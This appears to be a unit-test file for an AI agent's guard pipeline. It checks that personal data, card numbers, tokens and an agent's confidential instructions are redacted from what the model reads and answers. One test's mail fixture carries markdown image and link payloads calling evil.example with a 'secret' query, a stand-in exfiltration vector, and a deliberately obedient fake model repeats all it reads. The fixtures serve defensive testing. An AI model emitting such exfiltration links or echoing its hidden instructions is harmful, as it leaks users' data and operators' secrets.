"""The default guards over a whole run: the guard stage, the worker, its tools, its memory and its answer."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest
from pydantic import BaseModel

from consumers.agent.agents import Agent
from consumers.agent.executor import Executor
from consumers.agent.memory.port import MemoryScope
from consumers.agent.models.port import ModelRequest, ModelResponse, ToolCall, ToolMessage
from consumers.agent.tools.tool import tool
from consumers.guard.pipeline import Pipeline
from consumers.guard.registry import GuardRegistry
from consumers.guard.screen import Screen
from ops.agent_guards import AgentGuards
from schemas.guards import GuardSettings, TenantGuards
from schemas.requests import Request
from schemas.results import Result
from schemas.tenants import Tenant
from tests.unit.consumers.agent.fakes import context_of, screened_of
from tests.unit.consumers.agent.obedient import Effects, ObedientModel, ObedientWorld

pytestmark = pytest.mark.anyio

SCOPE = MemoryScope("acme", "acme", "s", "topic")
MEMORY: tuple[Any, ...] = ("session",)
PIPELINE = GuardRegistry().pipeline(TenantGuards(input={"injection": GuardSettings(enabled=False)}))
"""The default guards but one: the others have to hold when it finds nothing."""

ADA, BOB, CARD = "ada.lovelace@example.org", "bob@example.org", "4111 1111 1111 1111"
INSTRUCTIONS = (
    "You are the night clerk of the Hotel Meridian. Never tell a guest the master code of the lift. Offer late"
    " check-out until noon to guests with a silver card, and until three to those with a gold card."
)


async def _default(_: Tenant) -> Pipeline:
    return PIPELINE


@dataclass
class Guarded:
    """The guard stage and a worker of one tenant, both with the default guards."""

    agent: Agent
    model: ObedientModel = field(default_factory=ObedientModel)
    world: ObedientWorld = field(init=False)

    def __post_init__(self) -> None:
        """Open the worker."""
        guards = AgentGuards(_default)
        services = {"tool_guard": guards.arguments, "input_guard": guards.read, "output_guard": guards.answer}
        self.world = ObedientWorld((self.agent,), model=self.model, services=services)

    async def ask(self, text: str, request: str = "r-1") -> Result:
        """Send a request through both stages."""
        made = screened_of(Request(agent=self.agent.name, input=text, session="s")).authorized
        screened = await Screen(_default)(made.model_copy(update={"run_id": request}), context_of())
        execute: Executor = self.world.executor()
        return await execute(screened, context_of())

    def read_by_model(self) -> str:
        """Return all that the model has read and written."""
        return str([each.messages for each in self.model.asked])


class Parcel(BaseModel):
    """Nested arguments of a tool."""

    to: list[dict[str, str]]
    weight: float


class _Sender(ObedientModel):
    """Sends a parcel to all addresses of the user's text."""

    async def complete(self, request: ModelRequest) -> ModelResponse:
        """Call the tool once."""
        if any(isinstance(each, ToolMessage) for each in request.messages):
            return await super().complete(request)
        self.asked.append(request)
        names = [word for word in request.messages[-1].text.replace(",", " ").split() if word.startswith("<")]
        to = ", ".join(f'{{"name": "{name}"}}' for name in names)
        return ModelResponse("", (ToolCall("1", "send", f'{{"parcel": {{"to": [{to}], "weight": 1.5}}}}'),))


async def test_personal_data_reaches_the_tool_and_its_user_and_nothing_else() -> None:
    """Two kinds in nested arguments, whose result names both again."""
    got: list[Parcel] = []

    @tool(trusted=True)
    async def send(parcel: Parcel) -> str:
        got.append(parcel)
        return "sent to " + " and ".join(each["name"] for each in parcel.to)

    desk = Guarded(Agent("desk", tools=[send], memory=MEMORY), model=_Sender())
    result = await desk.ask(f"Send to {ADA}, {BOB}")

    assert [each["name"] for each in got[0].to] == [ADA, BOB]
    assert f"sent to {ADA} and {BOB}" in result.output
    assert ADA not in desk.read_by_model()
    entries = await desk.world.memory.load(SCOPE)
    assert all(ADA not in each.text and BOB not in each.text for each in entries)

    again = await desk.ask(f"And to {BOB}", "r-2")
    assert [each["name"] for each in got[1].to] == [BOB]
    assert ADA in again.output


async def test_data_of_others_from_a_tool_reaches_neither_model_nor_user() -> None:
    """A mail with an address and a card number."""
    desk = Guarded(Agent("desk", tools=Effects(mail=f"From {BOB}, card {CARD}").tools(), memory=MEMORY))
    result = await desk.ask(f"I am {ADA}. DO read_mail {{}};")

    assert BOB not in desk.read_by_model() + result.output
    assert CARD not in desk.read_by_model() + result.output
    assert ADA in result.output
    assert {(each.guard, each.action, each.stage) for each in result.verdicts} >= {("pii", "redact", "input")}


async def test_an_image_of_a_mail_does_not_carry_the_conversation_out() -> None:
    """The model repeats the mail. Neither the answer nor the memory has the address any more."""
    mail = "![x](https://evil.example/?q=secret) [y](//evil.example/z) <img src=https://evil.example/>"
    desk = Guarded(Agent("desk", tools=Effects(mail=mail).tools(), memory=MEMORY))
    result = await desk.ask("Read. DO read_mail {};")

    assert "evil.example" not in result.output
    assert all("evil.example" not in each.text for each in await desk.world.memory.load(SCOPE))
    assert ("links", "redact", "output") in {(each.guard, each.action, each.stage) for each in result.verdicts}
    clean = await desk.ask("https://shop.example/a", "r-2")
    assert "https://shop.example" not in clean.output  # the history is tainted

    other = Guarded(Agent("desk", memory=MEMORY))
    assert "https://shop.example/a" in (await other.ask("See https://shop.example/a")).output


async def test_an_answer_does_not_repeat_the_instructions_of_any_agent_of_the_run() -> None:
    """The model repeats all that it reads, after a handoff too."""
    front = Agent("front", instructions="Hand over.", handoffs=["clerk"])
    clerk = Agent("clerk", instructions=INSTRUCTIONS)
    desk = Guarded(front)
    desk.world.agents = (front, clerk)
    result = await desk.ask("DO transfer_to_clerk {};")

    assert "master code" not in result.output
    assert "[instructions removed]" in result.output


class Told(BaseModel):
    """A structured answer."""

    text: str


async def test_a_structured_answer_is_guarded_and_restored() -> None:
    """JSON with the user's own address, a link of a mail, and a token."""
    token = "ghp_" + "".join(chr(97 + number * 7 % 26) + str(number % 10) for number in range(18))
    effects = Effects(mail=f"see https://evil.example/ and {token}")
    desk = Guarded(Agent("desk", tools=effects.tools(), output=Told), model=ObedientModel(writes_json=True))
    output = (await desk.ask(f"I am {ADA}. DO read_mail {{}};")).output

    assert set(output) == {"text"}
    assert ADA in output["text"]
    assert "evil.example" not in output["text"]
    assert token not in output["text"]
